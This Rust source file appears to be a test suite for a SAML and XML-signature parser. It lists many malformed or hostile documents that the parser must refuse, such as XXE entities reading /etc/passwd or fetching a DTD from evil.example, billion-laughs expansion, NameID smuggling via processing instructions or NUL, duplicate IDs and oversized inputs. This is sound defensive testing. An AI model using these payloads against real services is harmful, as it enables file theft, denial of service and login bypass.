//! The document itself: what two readers of the same bytes could read differently, and what costs a reader dearly.

use super::{Case, login, message, signed, signing};
use crate::{Element, Part};
use serde_json::json;

const XML: &str = "XML 1.0, fifth edition";
const NAMESPACES: &str = "Namespaces in XML 1.0, third edition";

pub fn cases() -> Vec<Case> {
    [declarations(), encodings(), markup(), namespaces(), identifiers(), budgets()].concat()
}

/// A refused document whose text was changed after it was signed.
fn text(id: &str, what: &str, source: &str, root: &str, change: impl FnOnce(&str) -> String) -> Case {
    let case = Case::refused("document", id, what, source, root, message().map(change).xml);
    if root == "xml-malformed" { case.expecting("unreadable", root) } else { case }
}

/// The same, where everything that was changed is signed.
fn signed_text(id: &str, what: &str, source: &str, root: &str, part: Part, raw: &str) -> Case {
    let xml = signed().replace(part, raw).message().xml;
    let case = Case::refused("document", id, what, source, root, xml);
    if root == "xml-malformed" { case.expecting("unreadable", root) } else { case }
}

fn declarations() -> Vec<Case> {
    let entity = "CVE-2025-25291: a DOCTYPE read by one parser and not by the other";
    let refused = |id: &str, what: &str, source: &str, doctype: &str| {
        let doctype = doctype.to_owned();
        text(id, what, source, "doctype-forbidden", move |xml| format!("{doctype}{xml}"))
    };
    let mut cases = vec![
        refused("doctype", "a DOCTYPE without anything in it", entity, "<!DOCTYPE r>"),
        refused("doctype-lower-case", "a doctype in lower case", entity, "<!doctype r>"),
        refused(
            "doctype-id-attribute",
            "a DOCTYPE that makes another attribute an ID",
            "XML Signature 1.1, section 4.4.3.2: what is an ID depends on the DTD",
            "<!DOCTYPE r [<!ATTLIST saml:Subject x ID #IMPLIED>]>",
        ),
        refused(
            "doctype-default-attribute",
            "a DOCTYPE that gives Response a default attribute",
            "CVE-2025-25291",
            "<!DOCTYPE r [<!ATTLIST samlp:Response ID CDATA \"_evil\">]>",
        ),
        refused(
            "entity-external",
            "an external entity that reads a file of the machine",
            "CVE-2013-6440, CVE-2026-28809: XXE",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        ),
        refused(
            "entity-parameter",
            "a parameter entity that fetches a DTD",
            "CVE-2013-6440, CVE-2026-28809: XXE",
            "<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>",
        ),
        refused(
            "entity-billion-laughs",
            "entities that expand to a thousand million",
            "CVE-2003-1564: exponential entity expansion",
            "<!DOCTYPE r [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
        ),
        refused(
            "doctype-external",
            "a DOCTYPE with an external DTD",
            "CVE-2013-6440, CVE-2026-28809: XXE",
            "<!DOCTYPE r SYSTEM \"https://evil.example/x.dtd\">",
        ),
        text("entity-undeclared", "an entity that nothing declares", XML, "xml-malformed", |xml| {
            xml.replace(super::PERSON, "mara&evil;@example.org")
        }),
        text("entity-html", "an entity of HTML", XML, "xml-malformed", |xml| {
            xml.replace(super::PERSON, "mara&nbsp;@example.org")
        }),
        text("doctype-inside", "a DOCTYPE inside the root", XML, "doctype-forbidden", |xml| {
            xml.replace("<samlp:Status>", "<!DOCTYPE r><samlp:Status>")
        }),
        text(
            "pi-in-value",
            "a processing instruction inside the NameID",
            "CVE-2017-11427 and kin; oblique.security, Hacking SAML, 2026",
            "processing-instruction",
            |xml| xml.replace(super::PERSON, "mara.oduya@example.org<?x?>.evil.example"),
        ),
        text(
            "pi-between",
            "a processing instruction between two elements",
            XML,
            "processing-instruction",
            |xml| xml.replace("<samlp:Status>", "<?x y?><samlp:Status>"),
        ),
        text(
            "pi-in-signed-info",
            "a processing instruction inside SignedInfo",
            XML,
            "processing-instruction",
            |xml| xml.replace("<ds:SignedInfo>", "<ds:SignedInfo><?x?>"),
        ),
        text(
            "pi-named-xml",
            "an XML declaration that is not at the beginning",
            XML,
            "xml-malformed",
            |xml| format!("<!-- --><?xml version=\"1.0\"?>{xml}"),
        ),
        text("xml-1-1", "XML 1.1", "XML 1.1 normalizes other line ends", "encoding-unsupported", |xml| {
            format!("<?xml version=\"1.1\"?>{xml}")
        }),
        text("xml-version-2", "XML 2.0", XML, "encoding-unsupported", |xml| {
            format!("<?xml version=\"2.0\"?>{xml}")
        }),
        text("xml-no-version", "an XML declaration without a version", XML, "xml-malformed", |xml| {
            format!("<?xml encoding=\"UTF-8\"?>{xml}")
        }),
        text(
            "standalone-maybe",
            "an XML declaration with standalone=\"maybe\"",
            XML,
            "xml-malformed",
            |xml| format!("<?xml version=\"1.0\" standalone=\"maybe\"?>{xml}"),
        ),
    ];
    for encoding in ["UTF-16", "UTF-7", "windows-1252", "utf8"] {
        let what = format!("the declaration names the encoding {encoding}");
        let id = format!("declared-{}", encoding.to_lowercase());
        let case = text(&id, &what, "XML 1.0, section 4.3.3", "encoding-unsupported", |xml| {
            format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{xml}")
        });
        // UTF-16 without its mark is refused at the door, before there is a document.
        cases.push(match encoding {
            "UTF-16" => case.expecting("unreadable", "encoding-unsupported"),
            _ => case,
        });
    }
    cases
}

fn encodings() -> Vec<Case> {
    let xml = message().xml;
    let utf16 = |big: bool| {
        let mut bytes = if big { vec![0xfe, 0xff] } else { vec![0xff, 0xfe] };
        bytes.extend(
            xml.encode_utf16().flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }),
        );
        bytes
    };
    let mut invalid = xml.clone().into_bytes();
    let at = xml.find(super::PERSON).unwrap();
    invalid[at] = 0xff;
    let mut overlong = xml.clone().into_bytes();
    overlong.splice(at..at, [0xc0, 0xbc]);
    let mut surrogate = xml.clone().into_bytes();
    surrogate.splice(at..at, [0xed, 0xa0, 0x80]);
    let strict = |id: &str, what: &str, bytes: Vec<u8>| {
        // A reader of captures may read on; the strict path never does.
        Case::refused("document", id, what, "XML 1.0, section 4.3.3", "encoding-unsupported", bytes)
            .validate("encoding-unsupported")
    };
    let no_text = |id: &str, what: &str, bytes: Vec<u8>| {
        strict(id, what, bytes).expecting("unreadable", "encoding-unsupported")
    };
    const BOM: &[&str] = &["utf16-text", "byte-order-mark"];
    vec![
        strict("utf-16-le", "UTF-16, little-endian, with a byte-order mark", utf16(false))
            .read_on()
            .codes(BOM),
        strict("utf-16-be", "UTF-16, big-endian, with a byte-order mark", utf16(true)).read_on().codes(BOM),
        no_text("invalid-utf-8", "a byte that UTF-8 never has", invalid),
        no_text("overlong-utf-8", "an over-long form of <", overlong),
        no_text("surrogate-utf-8", "a surrogate in UTF-8", surrogate),
    ]
}

fn markup() -> Vec<Case> {
    let bad = |id: &str, what: &str, change: fn(&str) -> String| text(id, what, XML, "xml-malformed", change);
    // A reader of captures says that the message ends early.
    let cut = |id: &str, what: &str, change: fn(&str) -> String| {
        bad(id, what, change).expecting("unreadable", "truncated").validate("xml-malformed")
    };
    vec![
        bad("after-root-element", "a second root element", |x| format!("{x}{x}")),
        bad("after-root-text", "text after the root element", |x| format!("{x}x")),
        bad("before-root-text", "text before the root element", |x| format!("x{x}"))
            .read_on()
            .validate("xml-malformed"),
        cut("no-end", "the last end tag is missing", |x| {
            x.trim_end().trim_end_matches("</samlp:Response>").to_owned()
        }),
        bad("wrong-end", "an end tag of another name", |x| x.replace("</saml:Subject>", "</saml:subject>")),
        bad("overlapping", "two elements that overlap", |x| {
            x.replace("</saml:Subject><saml:Conditions", "<saml:Conditions")
                .replace("</saml:Conditions>", "</saml:Subject></saml:Conditions>")
        }),
        bad("attribute-twice", "the same XML attribute twice on one element", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" ID=\"_evil\"")
        }),
        bad("attribute-unquoted", "an attribute value without quotes", |x| x.replace("ID=\"_r1\"", "ID=_r1")),
        bad("attribute-no-space", "no space between two attributes", |x| {
            x.replace(" ID=\"_r1\" ", " ID=\"_r1\"")
        }),
        bad("attribute-lt", "< in an attribute value", |x| x.replace("ID=\"_r1\"", "ID=\"<_r1\"")),
        bad("control-character", "a control character in a value", |x| {
            x.replace(super::PERSON, "mara\u{1}@example.org")
        }),
        bad("nul", "a NUL in a value", |x| x.replace(super::PERSON, "mara.oduya@example.org\0.evil.example")),
        bad("reference-nul", "a reference to NUL", |x| x.replace(super::PERSON, "mara&#0;@example.org")),
        bad("reference-control", "a reference to a control character", |x| {
            x.replace(super::PERSON, "mara&#1;@example.org")
        }),
        bad("reference-surrogate", "a reference to a surrogate", |x| {
            x.replace(super::PERSON, "mara&#xD800;@example.org")
        }),
        bad("reference-too-large", "a reference beyond Unicode", |x| {
            x.replace(super::PERSON, "mara&#x110000;@example.org")
        }),
        bad("reference-overflow", "a reference that overflows 32 bits", |x| {
            x.replace(super::PERSON, "mara&#4294967361;@example.org")
        }),
        bad("reference-open", "a reference without its semicolon", |x| {
            x.replace(super::PERSON, "mara&amp@example.org")
        }),
        bad("non-character", "the character U+FFFF", |x| {
            x.replace(super::PERSON, "mara\u{ffff}@example.org")
        }),
        bad("cdata-end", "]]> in text", |x| x.replace(super::PERSON, "mara]]>@example.org")),
        cut("cdata-open", "a CDATA section without an end", |x| x.replace(super::PERSON, "<![CDATA[mara")),
        bad("comment-double-hyphen", "a comment with -- inside", |x| {
            x.replace("<samlp:Status>", "<!-- a -- b --><samlp:Status>")
        }),
        cut("comment-open", "a comment without an end", |x| {
            x.replace("<samlp:Status>", "<!-- <samlp:Status>")
        }),
        bad("name-digit", "an element name that begins with a digit", |x| {
            x.replace("saml:Subject", "saml:1Subject")
        }),
        bad("name-empty", "an element without a name", |x| x.replace("<samlp:Status>", "<><samlp:Status>")),
        bad("space-before-name", "a space before an element name", |x| {
            x.replace("<saml:Subject>", "< saml:Subject>")
        }),
        bad("end-tag-attribute", "an attribute in an end tag", |x| {
            x.replace("</saml:Subject>", "</saml:Subject x=\"\">")
        }),
    ]
}

fn namespaces() -> Vec<Case> {
    let bad = |id: &str, what: &str, change: fn(&str) -> String| {
        text(id, what, NAMESPACES, "xml-malformed", change)
    };
    vec![
        bad("prefix-unbound", "a prefix that nothing binds", |x| x.replace("saml:Subject", "evil:Subject")),
        bad("prefix-unbound-attribute", "an attribute with a prefix that nothing binds", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" evil:ID=\"_x\"")
        }),
        bad("prefix-unbound-later", "a prefix used outside the element that binds it", |x| {
            x.replace("<samlp:Status>", "<x:a xmlns:x=\"urn:x\"/><x:b/><samlp:Status>")
        }),
        bad("prefix-undeclared", "a prefix undeclared with an empty name, as in version 1.1", |x| {
            x.replace("<samlp:Status>", "<samlp:Status xmlns:saml=\"\">")
        }),
        bad("two-colons", "a name with two colons", |x| x.replace("saml:Subject", "saml:x:Subject")),
        bad("colon-first", "a name that begins with a colon", |x| x.replace("saml:Subject", ":Subject")),
        bad("colon-last", "a prefix without a local name", |x| {
            x.replace("<samlp:Status>", "<saml:/><samlp:Status>")
        }),
        bad("xmlns-as-prefix", "an element with the prefix xmlns", |x| {
            x.replace("<samlp:Status>", "<xmlns:a/><samlp:Status>")
        }),
        bad("xmlns-bound", "a declaration of the prefix xmlns", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" xmlns:xmlns=\"urn:x\"")
        }),
        bad("xml-rebound", "the prefix xml bound to another name", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" xmlns:xml=\"urn:x\"")
        }),
        bad("xml-name-other-prefix", "another prefix bound to the name of xml", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" xmlns:x=\"http://www.w3.org/XML/1998/namespace\"")
        }),
        bad("xmlns-name-bound", "a prefix bound to the name of xmlns", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" xmlns:x=\"http://www.w3.org/2000/xmlns/\"")
        }),
        bad("declared-twice", "a prefix declared twice on one element", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" xmlns:q=\"urn:x\" xmlns:q=\"urn:y\"")
        }),
        bad("attribute-twice-expanded", "one attribute twice, by two prefixes of one namespace", |x| {
            x.replace(" ID=\"_r1\"", " ID=\"_r1\" xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:a=\"1\" q:a=\"2\"")
        }),
        text(
            "relative-namespace",
            "a relative namespace name, on which libxml2 cannot canonicalize",
            "CVE-2025-66568 | PortSwigger, The Fragile Lock, December 2025: void canonicalization | Canonical XML 1.0, section 1.3",
            "xml-malformed",
            |x| x.replace("<samlp:Status>", "<samlp:Status xmlns:x=\"1\">"),
        ),
        text(
            "relative-namespace-path",
            "a namespace name that is a relative path",
            "CVE-2025-66568 | PortSwigger, The Fragile Lock, December 2025: void canonicalization",
            "xml-malformed",
            |x| x.replace("<samlp:Status>", "<samlp:Status xmlns:x=\"../x\">"),
        ),
    ]
}

fn identifiers() -> Vec<Case> {
    let wide = |id: &str, what: &str, root: &str, change: fn(&str) -> String| {
        text(id, what, "SAML 2.0 core, section 1.3.4", root, change)
    };
    vec![
        wide("id-twice", "Response and assertion with the same ID", "id-duplicate", |x| {
            x.replace("\"_a1\"", "\"_r1\"")
        }),
        wide(
            "id-in-extension",
            "an element of Extensions with the ID of the assertion",
            "id-duplicate",
            |x| {
                x.replace(
                    "<samlp:Status>",
                    "<samlp:Extensions><x:a xmlns:x=\"urn:x\" ID=\"_a1\"/></samlp:Extensions><samlp:Status>",
                )
            },
        ),
        wide(
            "id-in-attribute-value",
            "an element inside an AttributeValue with the ID of the Response",
            "id-duplicate",
            |x| {
                x.replacen(
                    "</saml:AttributeValue>",
                    "<x:a xmlns:x=\"urn:x\" id=\"_r1\"/></saml:AttributeValue>",
                    1,
                )
            },
        ),
        Case::refused(
            "document",
            "id-missing",
            "the Response has no ID, and the Reference an empty fragment",
            "SAML 2.0 core, section 3.2.2",
            "structure-invalid",
            signed()
                .edit(Part::Response, |r| {
                    r.unset("ID");
                })
                .message()
                .xml,
        ),
        Case::refused(
            "document",
            "id-empty",
            "the ID is empty, and the Reference points at it",
            "SAML 2.0 core, section 1.3.4",
            "structure-invalid",
            signed().edit(Part::Response, |r| r.set("ID", "")).message().xml,
        ),
    ]
}

fn budgets() -> Vec<Case> {
    let limited = |id: &str, what: &str, limits: serde_json::Value, change: fn(&str) -> String| {
        text(id, what, "CVE-2025-54572, CVE-2025-25293: large messages", "limit-exceeded", change)
            .set("limits", limits)
            .may_accept()
    };
    let extension = |inside: Element| move |r: &mut Element| r.insert_before("Status", inside.clone());
    let stay = |x: &str| x.to_owned();
    let deep = |x: &str| {
        let (open, close) = ("<x:a xmlns:x=\"urn:x\">".repeat(80), "</x:a>".repeat(80));
        x.replace(
            "<samlp:Status>",
            &format!("<samlp:Extensions>{open}{close}</samlp:Extensions><samlp:Status>"),
        )
    };
    let honest = |id: &str, what: &str, source: &str, inside: Element| {
        let xml = login().edit(Part::Response, extension(inside)).sign_response(signing()).message().xml;
        Case::accepted(id, what, source, xml)
    };
    let extensions = || Element::new("samlp:Extensions").with("xmlns:x", "urn:x");
    let collisions = (0..500).fold(Element::new("x:a"), |element, n| {
        element.with(&format!("x{n}"), "").with(&format!("xmlns:p{n}"), &format!("urn:{n}"))
    });
    let ids =
        (0..1500).fold(extensions(), |all, n| all.child(Element::new("x:a").with("ID", &format!("_{n}"))));
    let mut cases = vec![
        limited("depth", "elements nested 80 deep", json!({}), deep),
        limited("nodes", "more nodes than the budget of 50", json!({ "max_nodes": 50 }), stay),
        limited("attributes", "more attributes than the budget of 20", json!({ "max_attributes": 20 }), stay),
        limited(
            "attributes-of-one",
            "more attributes on one element than the budget of 3",
            json!({ "max_attributes_per_element": 3 }),
            stay,
        ),
        limited(
            "size",
            "a document larger than the budget of 1000 bytes",
            json!({ "max_xml_bytes": 1000 }),
            stay,
        )
        .expecting("unreadable", "limit-exceeded"),
        Case::refused(
            "document",
            "prefix-list",
            "a PrefixList of 65 prefixes",
            "CVE-2026-8452: memory in the canonicalization of SignedInfo",
            "limit-exceeded",
            login().sign_response(signing().prefix_list(&["x"; 65])).message().xml,
        )
        .may_accept()
        .honest(),
        signed_text(
            "value-with-element",
            "an element inside the NameID",
            "CVE-2017-11427 and kin: readers that take the first text",
            "structure-invalid",
            Part::NameId,
            "<saml:NameID>attacker@evil.example<saml:x/>.example.org</saml:NameID>",
        ),
    ];
    let mut collided = honest(
        "hash-collisions",
        "500 prefixes and 500 attributes on one element",
        "hash flooding: work must grow linearly with the input",
        extensions().child(collisions),
    );
    let mut many =
        honest("many-ids", "1,500 elements with an ID each", "uniqueness in less than quadratic time", ids);
    for case in [&mut collided, &mut many] {
        case.subject = "document";
    }
    cases.extend([collided, many]);
    cases
}
